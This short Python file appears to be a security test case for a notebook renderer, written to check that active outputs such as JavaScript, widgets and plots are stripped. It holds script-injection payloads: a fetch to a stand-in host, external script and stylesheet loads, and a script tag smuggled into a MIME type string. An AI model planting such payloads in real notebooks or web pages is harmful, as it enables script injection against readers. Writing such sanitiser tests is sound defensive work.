# tries: to run what notebook programs run by its kind: JavaScript, widgets, plots that come with code
# must: have such outputs left out
# score: 10
from IPython.display import Javascript, display

CALL = "fetch('http://beacon.example/javascript');top.owned=self.owned=1;alert(1)"
display(Javascript(CALL, lib="http://beacon.example/lib.js", css="http://beacon.example/lib.css"))
for kind in (
    "application/javascript",
    "text/javascript",
    "application/vnd.jupyter.widget-view+json",
    "application/vnd.bokehjs_exec.v0+json",
    "application/vnd.plotly.v1+json",
    "application/vnd.vega.v5+json",
    "application/pdf",
    "text/html+evil",
    f'image/png"><script>{CALL}</script>',
):
    display({kind: f"<script>{CALL}</script>", "text/plain": "3"}, raw=True, metadata={kind: {"src": CALL}})


def add(a, b):
    return a + b
